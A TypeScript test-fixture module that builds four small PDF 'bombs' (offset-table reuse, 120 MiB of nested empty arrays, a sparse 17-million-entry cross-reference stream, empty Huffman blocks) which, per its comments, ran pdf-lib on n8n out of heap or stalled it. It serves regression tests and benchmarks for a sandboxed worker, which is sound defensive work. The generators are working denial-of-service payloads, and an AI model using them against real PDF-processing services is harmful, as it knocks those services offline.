/**
 * Issue 49's PDFs, rows 1–4: small files that make pdf-lib build far more than they hold, each a
 * two-page document with text (so a reader that goes by references, as the service's does, reads
 * it fine) plus a stream pdf-lib parses as it meets it. Against the code before issue 49 (pdf-lib
 * on n8n's thread) rows 1 and 2 ran n8n out of heap, row 3 held it 28 s and kept 2.4 GB, row 4
 * held it 8 s.
 * - `offsetTableBomb` (row 1, 29 KB): an object stream whose offset table points 12,000 objects
 *   at one array of 10,000 numbers, 116 KB decoded: pdf-lib parses the array once per entry.
 * - `emptyArraysBomb` (row 2, 6.5 MB): an object stream of 120 MiB of `[]` (one array of 63
 *   million empty arrays, 36 bytes of heap for each byte), padded so that the old allowance (20
 *   times the file, 124 MiB) let it through.
 * - `sparseXrefBomb` (row 3, 1.3 KB): a cross-reference stream with no data, `/W [0 0 0]` and
 *   `/Index [100000 17000000]`: 17 million entries from 0 bytes.
 * - `emptyBlocksBomb` (row 4, 9.1 MB): an object stream of 790,000 empty dynamic Huffman blocks
 *   (pdfFlateAttacks.ts): nothing decoded, nothing charged, seconds of inflating.
 */
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { emptyBlocksPdf, textPagesWith } from './pdfFlateAttacks';

const MIB = 2 ** 20;

const stream = (dict: string, data: Buffer) => `<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;

export function offsetTableBomb(file: string, entries = 12_000, numbers = 10_000): Buffer {
	let table = '';
	for (let entry = 0; entry < entries; entry++) table += `${1_000 + entry} 0 `;
	const data = Buffer.from(`${table}[${'0 '.repeat(numbers)}]`, 'latin1');
	return textPagesWith(file, 2, [stream(`/Type /ObjStm /N ${entries} /First ${table.length} /Filter /FlateDecode`, deflateSync(data, { level: 9 }))]);
}

/** Adler-32 (RFC 1950) of `count` copies of `chunk`, so the stream is real zlib without the data in memory. */
function adler32Repeated(parts: Array<{ chunk: Buffer; count: number }>): Buffer {
	let [low, high] = [1, 0];
	for (const { chunk, count } of parts) {
		for (let copy = 0; copy < count; copy++) {
			for (let at = 0; at < chunk.length; at++) {
				low = (low + (chunk[at] as number)) % 65521;
				high = (high + low) % 65521;
			}
		}
	}
	const sum = Buffer.alloc(4);
	sum.writeUInt32BE(((high << 16) | low) >>> 0);
	return sum;
}

export function emptyArraysBomb(file: string, mib = 120, fileBytes = 6_500_000): Buffer {
	// zlib data built piece by piece: each piece is a flushed raw Deflate stream of its own
	// (non-final blocks ending on a byte), so the pieces chain into one stream without the data.
	const head = Buffer.from('1000 0 [', 'latin1');
	const body = Buffer.alloc(MIB, '[]');
	const tail = Buffer.from(']', 'latin1');
	const piece = (data: Buffer) => deflateRawSync(data, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
	const [first, middle, last] = [piece(head), piece(body), piece(tail)];
	const pieces = [Buffer.from([0x78, 0xda]), first, ...Array<Buffer>(mib).fill(middle), last, Buffer.from([0x03, 0x00])];
	const data = Buffer.concat([...pieces, adler32Repeated([{ chunk: head, count: 1 }, { chunk: body, count: mib }, { chunk: tail, count: 1 }])]);
	const bomb = stream('/Type /ObjStm /N 1 /First 7 /Filter /FlateDecode', data);
	const withoutPadding = textPagesWith(file, 2, [bomb, stream('', Buffer.alloc(0))]).length;
	// An unreferenced stream of plain bytes makes the file `fileBytes` long.
	return textPagesWith(file, 2, [bomb, stream('', Buffer.alloc(Math.max(0, fileBytes - withoutPadding), 'x'))]);
}

export function sparseXrefBomb(file: string, first = 100_000, count = 17_000_000): Buffer {
	return textPagesWith(file, 2, [stream(`/Type /XRef /W [0 0 0] /Index [${first} ${count}] /Size ${first + count}`, Buffer.alloc(0))]);
}

export const emptyBlocksBomb = (file: string, blocks = 790_000): Buffer => emptyBlocksPdf(file, blocks);

/**
 * Why a PDF worker refuses rows 1 and 3. They fill its 128 MiB heap in about 5 s; on a machine so
 * loaded that 20 s pass first (three CPU-bound processes beside the tests on two cores), its time
 * limit refuses them instead. Either way the file is sent whole and this thread is untouched.
 */
export const WORKER_LIMIT_REFUSAL = /^reading it took (more than the 128 MiB of memory a PDF may use|longer than 20 s)$/;

/** The four rows, for the tests and `npm run bench:attacks`. */
export const PARSE_ATTACKS = [
	{ row: 1, file: 'attack-offset-table.pdf', label: 'object stream: 12,000 entries at one 10,000-number array', make: offsetTableBomb },
	{ row: 2, file: 'attack-empty-arrays.pdf', label: 'object stream of 120 MiB of []', make: emptyArraysBomb },
	{ row: 3, file: 'attack-sparse-xref.pdf', label: 'cross-reference stream /W [0 0 0], 17 million entries', make: sparseXrefBomb },
	{ row: 4, file: 'attack-empty-blocks.pdf', label: '790,000 empty dynamic Huffman blocks', make: emptyBlocksBomb },
] as const;
